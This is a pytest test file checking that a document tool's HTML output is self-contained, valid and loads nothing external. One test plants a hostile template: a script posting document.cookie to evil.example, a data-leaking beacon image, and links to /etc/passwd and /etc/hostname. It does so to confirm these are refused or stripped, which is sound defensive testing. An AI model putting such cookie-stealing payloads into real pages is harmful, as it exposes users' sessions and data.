"""`--format html`: one self-contained, inert, valid HTML file per document, under the PDF's resource and link policy."""
from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
EVIL = "templates/audiences/evil/brief.html.j2"


def _tool(path: Path | None, what: str, install: str) -> None:
    """Skip (or in CI fail) when a checker is missing."""
    if path is None or not path.exists():
        if os.environ.get("CI"):
            pytest.fail(f"{what} is missing in CI: {install}")
        pytest.skip(f"{what} is not installed; run: {install}")


def test_brief_and_onepager_html_are_self_contained(small: Path, run) -> None:
    """Both kinds write HTML that loads nothing: stylesheet inlined, logo a data: URL, no script, a strict CSP."""
    for kind, folder in (("brief", "briefs"), ("onepager", "onepagers")):
        result = run(small, kind, "free-riding", "--format", "html")
        assert result.exit_code == 0, result.output
        page = small / "build" / "congress" / folder / "free-riding.html"
        html = page.read_text(encoding="utf-8")
        assert html.startswith("<!DOCTYPE html>") and '<html lang="en-US">' in html
        assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';' in html
        assert "<link" not in html and "<script" not in html and "@font-face" not in html
        assert re.search(r'<img class="logo" src="data:image/svg\+xml;base64,', html)
        assert ".page-break" in html or "--color-primary" in html  # the print stylesheet, inlined
        urls = re.findall(r'(?:href|src)="([^"]*)"', html) + re.findall(r'url\("([^"]+)"\)', html)
        for url in urls:
            assert url.startswith(("data:", "#", "https://", "http://", "mailto:")), url
        assert 'href="#note-1"' in html and 'id="note-1"' in html
        assert "For congressional staff use" in html
        assert not (page.with_suffix(".pdf")).exists()


def test_html_passes_the_same_resource_and_link_policy_as_the_pdf(small: Path, run) -> None:
    """V9: a beacon image, a remote stylesheet, a file: link and /etc/hostname are refused for HTML as for the
    PDF, with the same located errors; a script is dropped; nothing is written."""
    (small / "audiences" / "evil.yaml").write_text("label: Evil\nmarking: none\n", encoding="utf-8")
    (small / EVIL).parent.mkdir(parents=True)
    (small / EVIL).write_text(
        '<p>x</p>\n<img alt="b" src="http://127.0.0.1:9/beacon?d={{ block.summary|urlencode }}">\n'
        '<script>fetch("https://evil.example/" + document.cookie)</script>\n'
        '<a href="file:///etc/passwd">passwd</a>\n<link rel=stylesheet href=https://evil.example/x.css>\n'
        '<img alt="h" src=/etc/hostname>\n', encoding="utf-8")
    pdf = run(small, "brief", "nato", "--audience", "evil")
    html = run(small, "brief", "nato", "--audience", "evil", "--format", "html")
    assert pdf.exit_code == html.exit_code == 1
    errors = [line for line in html.output.splitlines() if ": error: " in line]
    assert errors and errors == [line for line in pdf.output.splitlines() if ": error: " in line]
    assert any("refused to load http://127.0.0.1:9/beacon" in line for line in errors), errors
    assert any(line.startswith(f"{EVIL}:4:") and "file:///etc/passwd refused" in line for line in errors), errors
    assert any("https://evil.example/x.css" in line for line in errors), errors
    assert not (small / "build" / "evil").exists()
    (small / EVIL).write_text('<p>x</p><script>fetch("https://evil.example/")</script><p onclick="x()">y</p>',
                              encoding="utf-8")
    assert run(small, "brief", "nato", "--audience", "evil", "--format", "html").exit_code == 0
    text = (small / "build" / "evil" / "briefs" / "nato.html").read_text(encoding="utf-8")
    assert "<script" not in text and "evil.example" not in text and "onclick" not in text and "<p>y</p>" in text


def test_html_is_valid_for_the_nu_html_checker(nu_errors) -> None:  # noqa: ANN001
    """The brief and the one-pager pass the Nu Html Checker (vnu-jar, Java 17) without an error (written with
    `--format html` and checked in the run's one checker run: conftest's nu_errors)."""
    assert [p.parent.name for p in nu_errors.html_pages] == ["briefs", "onepagers"]
    assert all(p.read_text(encoding="utf-8").startswith("<!DOCTYPE html>") for p in nu_errors.html_pages)
    assert nu_errors(nu_errors.html_pages) == []
    # the same run reports what is wrong in a page that is not valid: the check above could fail
    assert any("span" in e for e in nu_errors([nu_errors.invalid])), nu_errors([nu_errors.invalid])


def test_moved_html_renders_the_same(small: Path, run, tmp_path: Path) -> None:
    """The file shows the same pixels in headless chromium from its build folder and from anywhere else."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    _tool(Path(browser) if browser else None, "chromium", "sudo apt-get install -y chromium")
    assert run(small, "onepager", "nato", "--format", "html").exit_code == 0
    page = small / "build" / "congress" / "onepagers" / "nato.html"
    moved = tmp_path / "elsewhere" / "mailed.html"
    moved.parent.mkdir()
    shutil.copy(page, moved)
    shutil.rmtree(small / "templates")  # nothing of the project is left for it to reach
    shots = []
    for n, path in enumerate((page, moved)):
        shot = tmp_path / f"shot{n}.png"
        subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
                        f"--screenshot={shot}", "--window-size=900,1200", f"--user-data-dir={tmp_path / 'profile'}",
                        path.as_uri()], capture_output=True, timeout=120, check=True)
        shots.append(shot.read_bytes())
    assert shots[0] == shots[1] and len(shots[0]) > 20_000  # the same, and not a blank page
